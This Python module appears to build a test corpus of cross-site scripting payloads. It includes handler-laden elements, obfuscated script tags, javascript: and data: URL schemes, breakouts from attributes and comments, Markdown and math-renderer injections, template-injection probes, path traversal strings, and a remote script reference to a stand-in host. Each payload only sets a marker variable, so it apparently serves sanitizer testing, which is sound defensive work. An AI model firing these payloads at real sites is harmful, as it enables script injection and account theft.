"""Hostile text of the kinds that public XSS lists hold, written anew: every payload would set `window.pwned`.

Kinds: elements with handlers, script elements in many spellings, addresses with script schemes, ways out of an
attribute, out of a script's JSON, out of a style, out of a comment, out of CDATA, of XML, Markdown that makes
HTML, templates, mathematics, encodings, and characters that hide or end things.
"""

from __future__ import annotations

RUN = "window.pwned=1"

_HANDLERS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onstart", "onanimationstart",
    "onpointerenter", "onbeforetoggle", "oncanplay", "onpageshow", "onwheel", "onscrollend",
)  # fmt: skip
_ELEMENTS = (
    "img src=x", "svg", "body", "details open", "video src=x", "audio src=x", "input autofocus", "iframe src=about:blank",
    "marquee", "math", "select autofocus", "object data=x", "style", "svg><animate attributeName=x dur=1s", "a href=# ",
)  # fmt: skip
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", " javascript:{}", "\x01javascript:{}",
    "javascript&colon;{}", "javascript&#58;{}", "&#106;avascript:{}", "&#x6A;avascript:{}", "vbscript:{}",
    "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>", "blob:{}", "file:///etc/passwd",
    "//evil.example/x.js", "\\\\evil.example\\x", "https:javascript:{}", "javascript://%0a{}", "feed:javascript:{}",
    "view-source:javascript:{}", "jav&#x09;ascript:{}", "javascript\u2028:{}", "%6aavascript:{}",
)  # fmt: skip


def _elements() -> list[str]:
    made = [f"<{element} {handler}={RUN}>" for element in _ELEMENTS for handler in _HANDLERS]
    made += [f"<{element}\n{_HANDLERS[0]}\n=\n'{RUN}'//" for element in _ELEMENTS]
    made += [f'<{element.upper()}/{_HANDLERS[1].upper()}="{RUN}">' for element in _ELEMENTS]
    return made


def _scripts() -> list[str]:
    spellings = (
        "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<scr<script>ipt>{}</scr</script>ipt>", "<script >{}</script >",
        "<script/x>{}</script>", "<script\n>{}</script\n>", "<<script>{}//<</script>", "<script>/*<!--*/{}/*-->*/</script>",
        "</title><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>",
        "</script><script>{}</script>", "</noscript><script>{}</script>", "</template><script>{}</script>",
        "<!--><script>{}</script-->", "<![CDATA[><script>{}</script>]]>", "]]><script>{}</script>", "<?x ><script>{}</script>?>",
        "<svg><script>{}</script></svg>", "<svg><script xlink:href='data:,{}'/></svg>",
        "<math><mi//xlink:href='data:x,<script>{}</script>'>", "<math><style><img src=x onerror={}></style></math>",
        "<noscript><p title='</noscript><img src=x onerror={}>'>", "<template><script>{}</script></template>",
        "<iframe srcdoc='<script>parent.{}</script>'>", "<base href='javascript:{}//'>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
        "<form action='javascript:{}'><button autofocus>", "<object data='javascript:{}'>", "<embed src='javascript:{}'>",
        "<link rel=stylesheet href='data:text/css,*{{}}'>", "<style>@import 'javascript:{}';</style>", "<style>*{{background:url(javascript:{})}}</style>",
    )  # fmt: skip
    return [one.format(RUN) for one in spellings]


def _addresses() -> list[str]:
    made = []
    for scheme in _SCHEMES:
        address = scheme.format(RUN)
        made += [
            f"[click]({address})",
            f"[click](<{address}>)",
            f"<{address}>",
            f'<a href="{address}">click</a>',
        ]
    return made


def _breakouts() -> list[str]:
    ends = (
        '"',
        "'",
        "`",
        '">',
        "'>",
        "-->",
        "*/",
        "]]>",
        "</script>",
        "&quot;>",
        '\\"',
        "\\u0022",
        "${",
        "{{",
        "{%",
        "<%",
    )
    return [f"{end} onmouseover={RUN} x{end}<img src=x onerror={RUN}>" for end in ends] + [
        f"{end};{RUN};//" for end in ends
    ]


def _markdown() -> list[str]:
    return [
        f"![x](x){{onerror={RUN}}}", f"![\" onerror=\"{RUN}](x)", f"![x](\"onerror=\"{RUN})", f"[x](https://e.example \"\"onmouseover={RUN} x=\"\")",
        f"[x][y]\n\n[y]: javascript:{RUN}", f"[x]: javascript:{RUN}\n\n[x]", f"`<img src=x onerror={RUN}>`", f"``` x onload={RUN}\ny\n```",
        f"```\"><script>{RUN}</script>\ny\n```", f"***<img src=x onerror={RUN}>***", f"<javascript:{RUN}>", f"# <img src=x onerror={RUN}>",
        f"|a|<img src=x onerror={RUN}>|\n|-|-|\n|b|c|", f"- <svg onload={RUN}>", f"> <svg onload={RUN}>", f"1. <svg onload={RUN}>",
        f"<div markdown=1 onclick={RUN}>x</div>", f"a <b <script>{RUN}</script>", f"[<img src=x onerror={RUN}>](https://e.example)",
        f"[x](https://e.example/'onmouseover={RUN}//)", f"[x](https://e.example/\"onmouseover={RUN}//)", "\x02klzzwxh:0000\x03",
        f"\x02amp\x03lt;script\x02amp\x03gt;{RUN}", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}", f"\\<script>{RUN}\\</script>",
    ]  # fmt: skip


def _mathematics() -> list[str]:
    return [
        f"$\\href{{javascript:{RUN}}}{{x}}$", f"$\\text{{<img src=x onerror={RUN}>}}$", f"$<script>{RUN}</script>$",
        f"$\\unicode{{<img src=x onerror={RUN}>}}$", f"$\\class{{x\" onclick=\"{RUN}}}{{y}}$", f"$\\style{{x:expression({RUN})}}{{y}}$",
        f"$$\\begin{{array}}{{\" onload=\"{RUN}}} a \\end{{array}}$$", f"\\(</math><img src=x onerror={RUN}>\\)", "$\\frac{1}$", "$" + "{" * 200 + "$",
        f"$\\mathrm{{</mi><script>{RUN}</script>}}$", f"$\\hspace{{1em\" onclick=\"{RUN}}}$", f"$\\color{{\" onclick={RUN}}}{{x}}$",
    ]  # fmt: skip


def _templates() -> list[str]:
    return [
        "{{ 7*7 }}", "{{ config }}", "{% raw %}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "{# x #}", "${7*7}", "<%= 7*7 %>",
        "{{ book.__init__.__globals__ }}", "{{ self }}", "#{7*7}", "*{7*7}", "@{7*7}", "{{constructor.constructor('window.pwned=1')()}}",
    ]  # fmt: skip


def _characters() -> list[str]:
    return [
        f"\u202e<img src=x onerror={RUN}>", f"\x00<script>{RUN}</script>", f"<scr\x00ipt>{RUN}</scr\x00ipt>", f"\ufeff<script>{RUN}</script>",
        f"\u2028{RUN}\u2029", f"<img\x0csrc=x\x0conerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"%3Cscript%3E{RUN}%3C/script%3E", f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
        "../../../../tmp/pwned", "..\\..\\pwned", "/etc/passwd", "C:\\pwned", "CON", ".htaccess", "a" * 5000, "\n\n\n", "   ", "",
        "]]>", "--><!--", "\u0000", "<", ">", "&", '"', "'", "\\", "`", "$", "$$", "``", "[", "](", "![",
    ]  # fmt: skip


PAYLOADS = tuple(
    dict.fromkeys(
        _elements()
        + _scripts()
        + _addresses()
        + _breakouts()
        + _markdown()
        + _mathematics()
        + _templates()
        + _characters()
    )
)
ADDRESSES = tuple(scheme.format(RUN) for scheme in _SCHEMES)
